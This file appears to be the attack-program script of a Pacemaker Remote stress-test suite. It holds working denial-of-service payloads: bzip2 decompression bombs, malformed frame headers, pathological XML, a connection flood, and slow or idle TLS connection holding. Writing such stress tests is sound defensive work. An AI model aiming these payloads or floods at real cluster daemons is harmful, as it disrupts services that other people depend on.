#!/usr/bin/env python3
"""The stress suite's attack programs (src/test/stress/run.sh), all in one place.

Messages (files written for src/test/c/stress-tls and stress-ipc to send):
  attacks.py frame KIND OUT       one or more Pacemaker Remote frames (docs/stress.md lists KINDs)
  attacks.py ipc-bomb OUT         one libqb IPC message (2.1 dialect) to the local lrmd endpoint,
                                  bzip2-compressed, that inflates to the 64 MiB maximum
Raw TCP (no key needed):
  attacks.py flood --src A --dst A --port P --rate N --seconds S [--hold S]
                                  N new connections per second that never send a byte
  attacks.py hold --src A --dst A --port P --mode idle|slow [--count N] [--seconds S]
                                  N connections that send nothing (idle) or one byte of a TLS
                                  ClientHello per second (slow); prints when the daemon closed each

Frame layout (40-byte header, little-endian, marker 0xBADADBBD; docs/stress.md): marker u32,
version u32, id u64, flags u64, size_total u32, payload_offset u32, payload_compressed u32,
payload_uncompressed u32 (text length including its trailing NUL), then the payload.
Findings are printed as key=value lines.
"""
import bz2
import errno
import resource
import selectors
import socket
import struct
import sys
import time

MARKER = 0xBADADBBD
MIB = 1024 * 1024
MAX_MESSAGE = 64 * MIB


def header(size_total, payload_offset, compressed, uncompressed, marker=MARKER, msg_id=1):
    return struct.pack('<IIQQIIII', marker, 1, msg_id, 0, size_total, payload_offset,
                       compressed, uncompressed)


def frame(text, msg_id=1):
    """A plain frame as a C peer sends it: the text and its NUL."""
    payload = text + b'\0'
    return header(40 + len(payload), 40, 0, len(payload), msg_id=msg_id) + payload


def compressed_frame(data, claimed, msg_id=1):
    """A frame whose payload is bzip2(data) and whose header claims `claimed` bytes inflated."""
    z = bz2.compress(data, 9)
    return header(40 + len(z), 40, len(z), claimed, msg_id=msg_id) + z


def request(op, msg_id, attrs='', calldata=''):
    body = ('<lrmd_command t="lrmd" lrmd_op="%s" lrmd_callopt="0" lrmd_remote_msg_id="%d"'
            ' lrmd_remote_msg_type="request"%s>' % (op, msg_id, attrs))
    if calldata:
        body += '<lrmd_calldata>%s</lrmd_calldata>' % calldata
    return (body + '</lrmd_command>').encode()


def register(msg_id=1):
    return frame(('<lrmd_command t="lrmd" lrmd_op="register" lrmd_clientname="stress-%d"'
                  ' lrmd_protocol_version="1.1" lrmd_remote_msg_id="%d"'
                  ' lrmd_remote_msg_type="request"/>' % (msg_id, msg_id)).encode(), msg_id)


def poke(msg_id):
    return frame(request('lrmd_rsc_poke', msg_id, ' lrmd_timeout="0"',
                         '<lrmd_rsc lrmd_origin="lrmd_api_poke_connection"/>'), msg_id)


def rsc_register(msg_id, rsc):
    return frame(request('lrmd_rsc_register', msg_id, ' lrmd_timeout="0"',
                         '<lrmd_rsc lrmd_origin="lrmd_api_register_rsc" lrmd_rsc_id="%s"'
                         ' lrmd_class="ocf" lrmd_provider="pacemaker" lrmd_type="Dummy"/>' % rsc), msg_id)


def exec_op(msg_id, rsc, action, timeout, start_delay='0'):
    return frame(request('lrmd_rsc_exec', msg_id, ' lrmd_timeout="%s"' % timeout,
                         '<lrmd_rsc lrmd_origin="lrmd_api_exec" lrmd_rsc_id="%s" lrmd_rsc_action="%s"'
                         ' lrmd_rsc_interval="0" lrmd_timeout="%s" lrmd_rsc_start_delay="%s">'
                         '<attributes CRM_meta_timeout="%s" crm_feature_set="3.16.1"/></lrmd_rsc>'
                         % (rsc, action, timeout, start_delay, timeout)), msg_id)


def cancel_op(msg_id, rsc, action, interval):
    return frame(request('lrmd_rsc_cancel', msg_id, ' lrmd_timeout="0"',
                         '<lrmd_rsc lrmd_origin="lrmd_api_cancel" lrmd_rsc_id="%s" lrmd_rsc_action="%s"'
                         ' lrmd_rsc_interval="%s"/>' % (rsc, action, interval)), msg_id)


def padded(head, total_with_nul):
    """head + '>' + children <p v="AAA..."/> + the closing tag, exactly total_with_nul - 1 bytes
    long: well-formed XML that parsers accept (libxml2 refuses a single construct, such as one
    start tag, over 10,000,000 bytes), whatever its size."""
    name = head[1:head.index(b' ')]
    close = b'</' + name + b'>'
    rest = total_with_nul - 1 - len(head) - 1 - len(close)
    parts = [head, b'>']
    while rest > 0:
        if rest < 12:                          # too little room for one more child: pad with text
            parts.append(b' ' * rest)
            break
        value = min(MIB, rest - 9)
        parts.append(b'<p v="' + b'A' * value + b'"/>')
        rest -= value + 9
    parts.append(close)
    return b''.join(parts)


def padded_poke(total_with_nul):
    """A poke whose text (NUL included) is exactly total_with_nul bytes."""
    return padded(b'<lrmd_command t="lrmd" lrmd_op="lrmd_rsc_poke" lrmd_remote_msg_id="2" '
                  b'lrmd_remote_msg_type="request" lrmd_timeout="0"', total_with_nul)


def many_attributes(elements, per_element):
    parts = [b'<lrmd_command t="lrmd" lrmd_op="lrmd_rsc_poke" lrmd_remote_msg_id="2" '
             b'lrmd_remote_msg_type="request"><lrmd_calldata>']
    attrs = b' '.join(b'a%d="x"' % i for i in range(per_element))
    for _ in range(elements):
        parts.append(b'<e ' + attrs + b'/>')
    parts.append(b'</lrmd_calldata></lrmd_command>')
    return b''.join(parts)


# KIND -> (description, function returning the bytes to send after the handshake)
FRAMES = {
    'register': ('register as a client', lambda: register()),
    'pokes': ('2000 pokes (a stalled reader repeats them)',
              lambda: b''.join(poke(i) for i in range(2, 2002))),
    'claim-max': ('register, then a bzip2 payload inflating to exactly the maximum message size',
                  lambda: register() + compressed_frame(padded_poke(MAX_MESSAGE) + b'\0', MAX_MESSAGE, 2)),
    'attrs-100x10000': ('register, then 9.9 MB of XML: 100 elements x 10,000 attributes',
                        lambda: register() + frame(many_attributes(100, 10000), 2)),
    'plain-max-1mib': ('register, then a plain poke 1 MiB under the maximum message size',
                       lambda: register() + frame(padded_poke(MAX_MESSAGE - MIB - 40), 2)),
    'bomb-cut': ('a bzip2 payload claiming 1000 bytes that inflates to 64 MiB',
                 lambda: register() + compressed_frame(b'\0' * MAX_MESSAGE, 1000, 2)),
    'deep-nesting': ('XML nested 100,000 elements deep',
                     lambda: register() + frame(b'<lrmd_command lrmd_op="lrmd_rsc_poke">' + b'<a>' * 100000
                                                + b'</a>' * 100000 + b'</lrmd_command>', 2)),
    'attrs-one-element': ('200,000 attributes on one element',
                          lambda: register() + frame(many_attributes(1, 200000), 2)),
    'invalid-utf8': ('a poke with invalid UTF-8 in an attribute',
                     lambda: register() + frame(b'<lrmd_command t="lrmd" lrmd_op="lrmd_rsc_poke" '
                                                b'lrmd_remote_msg_id="2" lrmd_remote_msg_type="request" '
                                                b'x="\xff\xfe\xc3\x28\xed\xa0\x80"/>', 2)),
    'bad-marker': ('header with a wrong endian marker',
                   lambda: header(60, 40, 0, 20, marker=0x12345678) + b'\0' * 20),
    'short-total': ('size_total smaller than the header', lambda: header(39, 40, 0, 1) + b'\0' * 8),
    'offset-outside': ('payload_offset past size_total', lambda: header(60, 100, 0, 20) + b'\0' * 20),
    'zero-uncompressed': ('payload_uncompressed 0', lambda: header(60, 40, 0, 0) + b'\0' * 20),
    'huge-total': ('size_total 4 GiB - 1', lambda: header(0xFFFFFFFF, 40, 0, 100) + b'\0' * 100),
    'compressed-past-end': ('payload_compressed past size_total', lambda: header(60, 40, 1000, 20) + b'\0' * 20),
    'huge-timeout': ('register r2, monitor it with lrmd_timeout=2^63-1',
                     lambda: register() + rsc_register(2, 'r2')
                     + exec_op(3, 'r2', 'monitor', '9223372036854775807')),
    'huge-delay': ('register r1 and r3, start r1 with start delay 2^63-1, monitor r1 (queued behind'
                   ' it) and r3, then cancel the delayed start',
                   lambda: register() + rsc_register(2, 'r1') + rsc_register(3, 'r3')
                   + exec_op(4, 'r1', 'start', '20000', '9223372036854775807')
                   + exec_op(5, 'r1', 'monitor', '20000')
                   + exec_op(6, 'r3', 'monitor', '20000')
                   + cancel_op(7, 'r1', 'start', '0')),
}


def ipc_bomb():
    """libqb message, Pacemaker 2.1 dialect: {id, size, error} 8-aligned, then size_uncompressed@24,
    size_compressed@28, flags@32 (0x1 = compressed), version@36; the register text inflates to
    exactly 64 MiB (NUL included)."""
    text = padded(b'<lrmd_command t="lrmd" lrmd_op="register" lrmd_clientname="stress"', MAX_MESSAGE) + b'\0'
    z = bz2.compress(text, 9)
    total = 40 + len(z)
    hdr = struct.pack('<i4xi4xi4xIIIB3x', 1, total, 0, len(text), len(z), 0x1, 1)
    return hdr + z


# ------------------------------------------------------------------ raw TCP
def raise_fd_limit():
    want = 200000
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, want))
    except (ValueError, OSError):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


IP_BIND_ADDRESS_NO_PORT = 24


def new_socket(src):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    # The port is picked at connect time, so TIME_WAIT pairs can be reused (tcp_tw_reuse)
    s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    s.bind((src, 0))
    return s


def flood(args):
    """rate new connections per second for `seconds`, spread over `procs` processes (each has
    its own file limit); each connection is held (never written to) until the peer closes it or
    `hold` seconds pass. Prints the sums of the processes' counts."""
    import json
    import os
    raise_fd_limit()
    procs = max(1, args.procs)
    args.rate = args.rate / procs
    children = []
    for _ in range(procs):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            stats = flood_one(args)
            os.write(w, json.dumps(stats).encode())
            os._exit(0)
        os.close(w)
        children.append((pid, r))
    total = {}
    for pid, r in children:
        data = b''
        while True:
            chunk = os.read(r, 65536)
            if not chunk:
                break
            data += chunk
        os.waitpid(pid, 0)
        for k, v in (json.loads(data) if data else {'failed_processes': 1}).items():
            total[k] = max(total.get(k, 0), v) if k == 'elapsed_s' else total.get(k, 0) + v
    for k, v in total.items():
        print('%s=%s' % (k, v))


def flood_one(args):
    sel = selectors.DefaultSelector()
    opened = {}            # fd -> (socket, opened at, connected?)
    stats = dict(attempted=0, connected=0, connect_failed=0, closed_by_peer=0, closed_by_us=0,
                 socket_errors=0, attacker_fd_limit=0, max_open=0)
    start = time.monotonic()
    end = start + args.seconds
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * args.rate)
        burst = 0
        while stats['attempted'] < due and burst < 200:
            burst += 1
            stats['attempted'] += 1
            try:
                s = new_socket(args.src)
                rc = s.connect_ex((args.dst, args.port))
            except OSError as e:
                stats['attacker_fd_limit' if e.errno == errno.EMFILE else 'socket_errors'] += 1
                continue
            if rc not in (0, errno.EINPROGRESS):
                stats['connect_failed'] += 1
                s.close()
                continue
            opened[s.fileno()] = [s, now, False]
            sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)
        stats['max_open'] = max(stats['max_open'], len(opened))
        for key, ev in sel.select(timeout=0.002):
            entry = opened.get(key.fd)
            if entry is None:
                continue
            s = entry[0]
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if not entry[2] and err == 0 and (ev & selectors.EVENT_WRITE):
                entry[2] = True
                stats['connected'] += 1
                sel.modify(s, selectors.EVENT_READ)
                continue
            if err != 0 and not entry[2]:
                stats['connect_failed'] += 1
            else:
                stats['closed_by_peer'] += 1
            sel.unregister(s)
            s.close()
            del opened[key.fd]
        # Holding limit: oldest first (dicts keep insertion order)
        for fd in list(opened)[:500]:
            s, t0, _ = opened[fd]
            if now - t0 < args.hold:
                break
            sel.unregister(s)
            s.close()
            del opened[fd]
            stats['closed_by_us'] += 1
    for s, _, _ in opened.values():
        s.close()
    stats['elapsed_s'] = round(time.monotonic() - start, 1)
    return stats


# The first bytes of a TLS ClientHello: the daemon cannot tell a slow client from a slow network.
CLIENT_HELLO_START = bytes.fromhex('16030100c8010000c40303') + b'\x11' * 200


def hold(args):
    socks = []
    for _ in range(args.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((args.src, 0))
        s.connect((args.dst, args.port))
        s.setblocking(False)
        socks.append([s, time.monotonic(), None, 0])
    end = time.monotonic() + args.seconds
    next_byte = time.monotonic()
    while time.monotonic() < end and any(e[2] is None for e in socks):
        now = time.monotonic()
        for e in socks:
            if e[2] is not None:
                continue
            try:
                data = e[0].recv(4096)
                if not data:
                    e[2] = now - e[1]
            except BlockingIOError:
                pass
            except OSError:
                e[2] = now - e[1]
            if e[2] is None and args.mode == 'slow' and now >= next_byte:
                try:
                    e[0].send(CLIENT_HELLO_START[e[3] % len(CLIENT_HELLO_START):][:1])
                    e[3] += 1
                except OSError:
                    e[2] = now - e[1]
        if args.mode == 'slow' and now >= next_byte:
            next_byte = now + 1.0
        time.sleep(0.05)
    for i, e in enumerate(socks):
        closed = 'open' if e[2] is None else '%d' % (e[2] * 1000)
        print('conn%d_closed_after_ms=%s bytes_sent=%d' % (i, closed, e[3]))
        e[0].close()


def main():
    import argparse
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest='cmd', required=True)
    f = sub.add_parser('frame')
    f.add_argument('kind', choices=sorted(FRAMES))
    f.add_argument('out')
    f.add_argument('--max-mib', type=int, default=64,
                   help='the daemon\'s maximum message size (claim-max, plain-max-1mib)')
    b = sub.add_parser('ipc-bomb')
    b.add_argument('out')
    fl = sub.add_parser('flood')
    h = sub.add_parser('hold')
    for q in (fl, h):
        q.add_argument('--src', required=True)
        q.add_argument('--dst', default='127.0.0.1')
        q.add_argument('--port', type=int, default=3121)
        q.add_argument('--seconds', type=float, default=20)
    fl.add_argument('--rate', type=int, default=2000)
    fl.add_argument('--hold', type=float, default=12)
    fl.add_argument('--procs', type=int, default=2)
    h.add_argument('--mode', choices=('idle', 'slow'), required=True)
    h.add_argument('--count', type=int, default=3)
    sub.add_parser('kinds')
    a = p.parse_args()
    if a.cmd == 'frame':
        global MAX_MESSAGE
        MAX_MESSAGE = a.max_mib * MIB
        data = FRAMES[a.kind][1]()
        with open(a.out, 'wb') as out:
            out.write(data)
        print('bytes=%d' % len(data))
    elif a.cmd == 'ipc-bomb':
        data = ipc_bomb()
        with open(a.out, 'wb') as out:
            out.write(data)
        print('bytes=%d' % len(data))
    elif a.cmd == 'flood':
        flood(a)
    elif a.cmd == 'hold':
        hold(a)
    elif a.cmd == 'kinds':
        for k in sorted(FRAMES):
            print('%-20s %s' % (k, FRAMES[k][0]))


if __name__ == '__main__':
    sys.exit(main())
